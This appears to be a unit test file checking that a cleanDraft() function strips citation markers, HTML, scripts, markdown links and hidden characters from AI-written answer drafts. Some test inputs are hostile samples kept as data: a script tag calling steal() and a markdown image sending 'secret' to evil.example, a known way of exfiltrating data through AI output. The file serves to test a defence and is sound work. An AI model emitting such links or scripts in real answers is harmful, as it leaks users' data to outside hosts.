import { describe, expect, test } from 'vitest';
import { cleanDraft } from '../../src/answer/clean-draft.js';

describe('cleanDraft()', () => {
  test.each([
    ['年假十天[1]。病假另计 [2, 3]。', '年假十天。病假另计。'],
    ['See [99] and 【4†source】 and ［3］ and [^2].', 'See and and and.'],
    ['a <b>bold</b> word<br>next', 'a bold word\nnext'],
    ['<script>steal()</script>Ten days.<!-- note -->', 'Ten days.'],
    ['![x](http://evil.example/?q=secret) Ten [days](http://evil.example).', 'x Ten days.'],
    ['3 < 5 and 7 > 6', '3 < 5 and 7 > 6'],
    ['Write [1](http://x) here', 'Write 1 here'],
    ['te\u200Bn da\u202Eys\u0007', 'ten days'],
    ['</section 1 abcd> Ten days.', 'Ten days.'],
  ])('%s', (text, clean) => {
    expect(cleanDraft(text)).toBe(clean);
    expect(cleanDraft(cleanDraft(text))).toBe(clean);
  });

  test('leaves code as it is', () => {
    const text = 'Use `a[1]` or\n\n```js\nconst b = a[2]; // <b>\n```';
    expect(cleanDraft(`${text} [3]`)).toBe(text);
  });
});
